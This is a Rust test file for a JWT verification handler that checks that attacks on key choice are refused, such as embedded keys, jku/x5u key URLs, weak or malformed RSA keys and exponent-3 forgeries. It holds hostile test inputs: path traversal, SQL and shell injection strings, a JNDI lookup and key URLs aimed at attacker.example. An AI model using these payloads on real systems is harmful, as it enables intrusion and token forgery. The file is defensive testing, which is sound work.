//! Attacks on the choice of the key.

use crate::bench::{Bench, OTHER_TENANT, TENANT, V1, V2, encoded, header, key, payload, signed};
use crate::forgeries::{self, BITS_1024, EXPONENT_3};
use crate::mint::mint;
use entra_handler::jwks::Unusable;
use entra_handler::rejection::Rejection;
use rsa::pkcs1v15::{Signature, VerifyingKey};
use rsa::sha2::Sha256;
use rsa::signature::Verifier;
use serde_json::json;

#[test]
fn an_embedded_key_is_never_used() {
    let attackers = key(2).jwk(None).to_string();
    let under = |kid: &str| {
        let kid = format!("\"{kid}\"");
        Bench::new().judge(&mint(key(2), &header(&[("jwk", &attackers), ("kid", &kid)]), &payload(&[])))
    };
    assert_refused!(under(&key(1).kid), "signature", Rejection::BadSignature { .. });
    assert_refused!(under(&key(2).kid), "key", Rejection::UnknownKey { kid, .. } if *kid == key(2).kid);
    let without_kid = mint(key(2), &header(&[("jwk", &attackers), ("kid", "")]), &payload(&[]));
    assert_refused!(Bench::new().judge(&without_kid), "key", Rejection::BadKeyId);
}

#[test]
fn a_key_address_is_never_followed() {
    for (name, value) in [
        ("jku", "\"https://attacker.example/keys\""),
        ("jku", "\"https://login.microsoftonline.com@attacker.example/keys\""),
        ("jku", "\"file:///etc/passwd\""),
        ("x5u", "\"https://attacker.example/cert.pem\""),
        ("x5c", "[\"MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8A\"]"),
        ("x5t", "\"AAAA\""),
    ] {
        let forged = mint(key(2), &header(&[(name, value)]), &payload(&[]));
        assert_refused!(Bench::new().judge(&forged), "signature", Rejection::BadSignature { .. }, name);
    }
}

#[test]
fn a_kid_is_looked_up_and_never_interpreted() {
    for kid in [
        "../../../../../../dev/null",
        "/proc/sys/kernel/randomize_va_space",
        "..\\..\\windows\\win.ini",
        "file:///dev/null",
        "' OR '1'='1",
        "x' UNION SELECT 'secret';--",
        "; sleep 10",
        "| whoami",
        "$(id)",
        "`id`",
        "${jndi:ldap://attacker.example/a}",
        "%00",
        "\u{0}",
        "*",
        ".*",
        "(kid=*)",
        "https://attacker.example/keys",
        "__proto__",
        "constructor",
        "0",
        "-1",
        "null",
    ] {
        let value = serde_json::to_string(kid).unwrap();
        let judged = Bench::new().header(&[("kid", &value)]);
        assert_refused!(judged, "key", Rejection::UnknownKey { kid: found, .. } if found == kid, kid);
    }
}

#[test]
fn a_kid_of_another_type_names_no_key() {
    let (array, object) = (format!("[\"{}\"]", key(1).kid), format!("{{\"kid\":\"{}\"}}", key(1).kid));
    let huge = format!("\"{}\"", "k".repeat(11_000));
    for kid in ["", "\"\"", "0", "1e400", "null", "true", "[]", "{}", &array, &object, &huge] {
        assert_refused!(Bench::new().header(&[("kid", kid)]), "key", Rejection::BadKeyId, kid);
    }
}

#[test]
fn a_kid_of_lookalike_letters_names_no_key() {
    let mut jwk = key(1).jwk(None);
    jwk["kid"] = json!("key-a\u{e9}");
    let bench = Bench::new().keys(&[jwk]);
    let judged = |kid: &str| bench.header(&[("kid", &format!("\"{kid}\""))]);
    assert_eq!(judged("key-a\u{e9}"), Ok(payload(&[])));
    for kid in [
        "key-\u{430}\u{e9}",
        "key-ae\u{301}",
        "key\u{2010}a\u{e9}",
        "key-a\u{c9}",
        "\u{feff}key-a\u{e9}",
        "ｋey-a\u{e9}",
        "key-a\u{200b}\u{e9}",
    ] {
        assert_refused!(judged(kid), "key", Rejection::UnknownKey { .. }, kid);
    }
}

#[test]
fn a_key_of_another_issuer_is_refused() {
    let consumers = "https://login.microsoftonline.com/9188040d-6c67-4c5b-b112-36a304b66dad/v2.0";
    let other = V2.replace(TENANT, OTHER_TENANT);
    for tenant in [TENANT, "organizations", "common"] {
        for key_issuer in [consumers, &other] {
            let bench = Bench::with(&[("TENANT_ID", tenant)]).keys(&[key(1).jwk(Some(key_issuer))]);
            for iss in [V1, V2] {
                let judged = bench.claims(&[("iss", &format!("\"{iss}\""))]);
                assert_refused!(judged, "key issuer",
                    Rejection::WrongKeyIssuer { key_issuer: named, issuer } if named == key_issuer && issuer == iss);
            }
        }
    }
}

#[test]
fn a_key_of_1024_bits_is_refused() {
    let input = forgeries::signing_input(BITS_1024, 0);
    let token = format!("{input}.{}", forgeries::SMALL_GENUINE);
    let judged = Bench::new().keys(&[forgeries::bits_1024(), key(1).jwk(None)]).judge(&token);
    assert_refused!(judged, "key", Rejection::UnusableKey { reason: Unusable::ModulusSize(1024), .. });
    // The signature is genuine: another verifier, which takes such keys, accepts it.
    let bytes = |text: &str| {
        base64::Engine::decode(&base64::engine::general_purpose::URL_SAFE_NO_PAD, text).expect("base64url")
    };
    let jwk = forgeries::bits_1024();
    let number = |name: &str| rsa::BigUint::from_bytes_be(&bytes(jwk[name].as_str().unwrap()));
    let public = VerifyingKey::<Sha256>::new(rsa::RsaPublicKey::new(number("n"), number("e")).unwrap());
    let signature = Signature::try_from(bytes(forgeries::SMALL_GENUINE).as_slice()).unwrap();
    assert!(public.verify(input.as_bytes(), &signature).is_ok());
}

#[test]
fn a_key_with_exponent_1_is_refused() {
    let mut jwk = key(1).jwk(None);
    jwk["e"] = json!("AQ");
    // With the exponent 1 anybody can sign: the signature is the padded hash itself.
    let token = signed(&payload(&[]));
    let input = token.rsplit_once('.').unwrap().0;
    let hash = ring::digest::digest(&ring::digest::SHA256, input.as_bytes());
    let info = [0x30, 0x31, 0x30, 0x0d, 6, 9, 0x60, 0x86, 0x48, 1, 0x65, 3, 4, 2, 1, 5, 0, 4, 0x20];
    let block = [&[0, 1][..], &[0xff; 202], &[0], &info, hash.as_ref()].concat();
    assert_eq!(block.len(), 256);
    let judged = Bench::new().keys(&[jwk, key(2).jwk(None)]).judge(&format!("{input}.{}", encoded(block)));
    assert_refused!(judged, "key", Rejection::UnusableKey { reason: Unusable::BadExponent, .. });
}

#[test]
fn a_key_that_is_slow_to_use_is_refused() {
    let modulus = |bytes: usize| encoded(vec![0xff; bytes]);
    for (n, e, reason) in [
        (modulus(256), encoded(vec![0xff; 256]), Unusable::BadExponent),
        (modulus(256), encoded([2, 0, 0, 0, 1]), Unusable::BadExponent),
        (modulus(1_025), "AQAB".into(), Unusable::ModulusSize(8_200)),
        (modulus(100_000), "AQAB".into(), Unusable::ModulusSize(800_000)),
    ] {
        let jwk = json!({ "kty": "RSA", "kid": key(1).kid, "n": n, "e": e });
        let judged = Bench::new().keys(&[jwk, key(2).jwk(None)]).judge(&signed(&payload(&[])));
        assert_refused!(judged, "key", Rejection::UnusableKey { reason: r, .. } if *r == reason);
    }
}

#[test]
fn a_key_for_encryption_is_refused() {
    for (name, value, reason) in [
        ("use", json!("enc"), Unusable::NotForSignatures),
        ("key_ops", json!(["encrypt", "wrapKey"]), Unusable::NotForVerifying),
        ("alg", json!("RSA-OAEP-256"), Unusable::OtherAlgorithm),
    ] {
        let mut jwk = key(1).jwk(None);
        jwk[name] = value;
        let judged = Bench::new().keys(&[jwk, key(2).jwk(None)]).judge(&signed(&payload(&[])));
        assert_refused!(judged, "key", Rejection::UnusableKey { reason: r, .. } if *r == reason);
    }
}

#[test]
fn no_forgery_under_exponent_3_is_accepted() {
    let bench = Bench::new().keys(&[forgeries::exponent_3()]);
    let token =
        |number: usize, signature: &str| format!("{}.{signature}", forgeries::signing_input(EXPONENT_3, number));
    let genuine = bench.judge(&token(0, forgeries::GENUINE));
    assert_eq!(genuine, Ok(forgeries::payload(0)), "the key may be used, so the forgeries fail by themselves");
    for (what, number, signature) in forgeries::FORGERIES {
        let judged = bench.judge(&token(number, signature));
        assert_refused!(judged, "signature", Rejection::BadSignature { kid, .. } if kid == EXPONENT_3, what);
    }
}
